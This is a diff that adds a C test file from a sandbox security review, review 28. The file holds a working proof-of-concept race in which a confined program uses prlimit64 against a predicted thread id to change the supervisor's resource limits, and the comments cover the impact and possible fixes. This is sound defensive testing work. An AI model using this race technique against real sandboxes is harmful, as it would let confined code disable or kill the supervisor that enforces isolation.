@@ -1,0 +1,174 @@
+// Review 28, attacker model B (the default domain's program counter; any
+// system call the filter allows). Review 27's fix sends prlimit64 that
+// sets another process's limits to the supervisor, which refuses it when
+// the target is a thread id of its own and otherwise answers CONTINUE
+// (supervisor.c). A thread id that does not exist yet passes the check
+// (ENOENT: "not ours"), and the kernel looks the id up only when the
+// caller runs again: if the supervisor makes a thread in between, that
+// thread gets the id, and the limits set are the supervisor's. The
+// supervisor makes threads on the program's request: an open of a FIFO
+// goes on in a thread of its own (supervisor-open.c, hand_over), and
+// thread ids are handed out in order.
+//
+// Here a fork child makes two threads: T1 (nice 19, so that it runs last
+// once the supervisor answers it) calls prlimit64(N, RLIMIT_NOFILE) with N
+// the next thread id (/proc/sys/kernel/ns_last_pid + 1); T2, as soon as T1
+// is on its way, opens a FIFO nobody writes. The supervisor answers T1
+// (N: no such task, CONTINUE), then takes T2's open and makes a thread for
+// it, which gets N; then T1 runs and the kernel sets the limit of the
+// process N belongs to: the supervisor's. The parent reads the
+// supervisor's limit (a query passes the filter): changed, ATTACK
+// SUCCEEDED. A round that loses (T1 ran first: ESRCH; T2's open came
+// first: refused, the child dies) is tried again, up to 100 times. The
+// control runs the same rounds without the FIFO (no supervisor thread):
+// the limit stays.
+//
+// With the limit in hand the attacker has review 27's position back:
+// RLIMIT_NOFILE near its open descriptors (every check that opens
+// /proc now refuses: availability), RLIMIT_CPU (SIGXCPU kills the
+// supervisor), RLIMIT_NPROC/RLIMIT_AS (no hand-over or learner threads);
+// any check that still reads a failed open as "no" is open again.
+//
+// Seen in the guest (filter on, as root, one CPU): ATTACK SUCCEEDED in the
+// first rounds; control: the limit unchanged.
+//
+// Suggested fix: refuse prlimit64 with a new limit for every pid but 0 and
+// the caller's own children (or: the supervisor answers by doing the call
+// itself, which the target's id cannot outrun: it looks the task up with
+// pidfd_open from the caller's pid namespace, refuses if the pidfd is its
+// own, and sets the limit through... the kernel has no prlimit by pidfd,
+// so doing it itself means the same race on its side unless it stops
+// making threads); or the supervisor sets its own hard limits at start
+// (setrlimit with rlim_max = rlim_cur lowers nothing of the program's) and
+// makes its threads before the filter is installed (a pool), so no thread
+// id of its own is born after a check.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: rm -rf %t && mkdir %t
+// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread %s -o %t/prog
+// RUN: %run %t/prog control > %t/control.out 2>&1 || true
+// RUN: FileCheck %s --check-prefix=CONTROL < %t/control.out
+// RUN: %run %t/prog attack > %t/out 2>&1 || true
+// RUN: FileCheck %s < %t/out
+// CONTROL: supervisor found: 1
+// CONTROL-NOT: ATTACK SUCCEEDED
+// CONTROL: parent's vault intact: 1
+// CHECK: supervisor found: 1
+// CHECK-NOT: ATTACK SUCCEEDED
+// CHECK: parent's vault intact: 1
+#include "Inputs/target.h"
+#include <dirent.h>
+#include <pthread.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+
+static pid_t supervisor;
+static struct rlimit before;
+static char fifo[64];
+static int with_fifo;
+static volatile int go;
+
+/* The supervisor: the one process whose procfs files the supervisor
+ * refuses to open for us (it kills the caller: a fork child tries each
+ * pid), as in attacks-rev27-supervisor-rlimit.c. */
+static pid_t find_supervisor(void) {
+  DIR *d = opendir("/proc");
+  pid_t found = 0;
+  for (struct dirent *e; d && !found && (e = readdir(d));) {
+    pid_t p = (pid_t)atoi(e->d_name), c;
+    if (p <= 1 || p == getpid() || (c = fork()) < 0)
+      continue;
+    if (c == 0) {
+      char path[64];
+      snprintf(path, sizeof path, "/proc/%d/comm", (int)p);
+      int fd = open(path, O_RDONLY);
+      _exit(fd < 0);
+    }
+    int st;
+    waitpid(c, &st, 0);
+    if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL)
+      found = p;
+  }
+  if (d)
+    closedir(d);
+  return found;
+}
+
+/* The thread id the kernel hands out next, if nothing else takes it. */
+static pid_t next_id(pid_t fallback) {
+  char buf[32] = {0};
+  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
+  if (fd < 0 || read(fd, buf, sizeof buf - 1) <= 0) {
+    if (fd >= 0)
+      close(fd);
+    return fallback + 1;
+  }
+  close(fd);
+  return (pid_t)atoi(buf) + 1;
+}
+
+static void *opener(void *arg) {
+  (void)arg;
+  while (!go)
+    ;
+  if (with_fifo)
+    open(fifo, O_RDONLY); /* waits in a supervisor thread of its own */
+  return NULL;
+}
+
+/* One round, in a fork child; exits when T1's call is done. */
+static void round_child(void) {
+  pthread_t t2;
+  pthread_create(&t2, NULL, opener, NULL);
+  setpriority(PRIO_PROCESS, (id_t)syscall(SYS_gettid), 19);
+  pid_t n = next_id((pid_t)syscall(SYS_gettid) + 1);
+  struct rlimit lower = {before.rlim_cur - 1, before.rlim_max};
+  go = 1;
+  syscall(SYS_prlimit64, n, RLIMIT_NOFILE, &lower, NULL);
+  /* Let the supervisor's FIFO thread go: a writer that does not wait. */
+  int w = open(fifo, O_WRONLY | O_NONBLOCK);
+  if (w >= 0)
+    close(w);
+  _exit(0);
+}
+
+static int supervisor_changed(void) {
+  struct rlimit now;
+  return !syscall(SYS_prlimit64, supervisor, RLIMIT_NOFILE, NULL, &now) &&
+         now.rlim_cur != before.rlim_cur;
+}
+
+static void attack(void) {
+  int rounds = 0;
+  for (; rounds < 100 && !supervisor_changed(); rounds++) {
+    pid_t c = fork();
+    if (c == 0)
+      round_child();
+    waitpid(c, NULL, 0);
+  }
+  if (supervisor_changed())
+    printf("ATTACK SUCCEEDED: the supervisor's RLIMIT_NOFILE set through a "
+           "thread id it made after its check (round %d)\n", rounds);
+  else
+    printf("attack failed: the supervisor's limit unchanged after %d rounds\n",
+           rounds);
+}
+
+int main(int argc, char **argv) {
+  if (argc < 2)
+    return 1;
+  with_fifo = !strcmp(argv[1], "attack");
+  supervisor = find_supervisor();
+  printf("supervisor found: %d\n", supervisor > 0);
+  if (supervisor <= 0 ||
+      syscall(SYS_prlimit64, supervisor, RLIMIT_NOFILE, NULL, &before))
+    return 1;
+  snprintf(fifo, sizeof fifo, "/tmp/rev28-fifo-%d", (int)getpid());
+  unlink(fifo);
+  if (mkfifo(fifo, 0600))
+    return 1;
+  struct attack a[] = {{argv[1], attack}};
+  int r = run_attacks(a, 1);
+  unlink(fifo);
+  return r;
+}
